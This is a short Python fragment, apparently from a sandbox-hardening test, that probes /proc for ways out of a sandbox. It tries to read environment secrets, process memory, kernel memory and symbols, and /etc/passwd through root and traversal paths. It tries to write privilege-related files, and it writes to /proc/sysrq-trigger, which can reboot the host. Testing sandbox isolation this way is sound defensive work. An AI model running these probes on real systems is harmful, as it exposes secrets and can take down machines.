# Breach: /proc leads out of the sandbox.
import os

attempt("/proc", lambda: os.listdir("/proc"))
for name in ("environ", "mem", "maps", "root/etc/passwd", "cwd/../../../etc/passwd", "mountinfo", "net/tcp"):
    attempt(name, lambda: open(f"/proc/self/{name}", "rb").read(1))
for name in ("/proc/sys/kernel/hostname", "/proc/kcore", "/proc/kallsyms", "/proc/meminfo", "/proc/mounts"):
    attempt(name, lambda: open(name, "rb").read(1))
for name in ("uid_map", "oom_score_adj", "coredump_filter", "attr/current", "timerslack_ns"):
    attempt(name, lambda: open(f"/proc/self/{name}", "w").write("0"))
attempt("sysrq", lambda: open("/proc/sysrq-trigger", "w").write("b"))
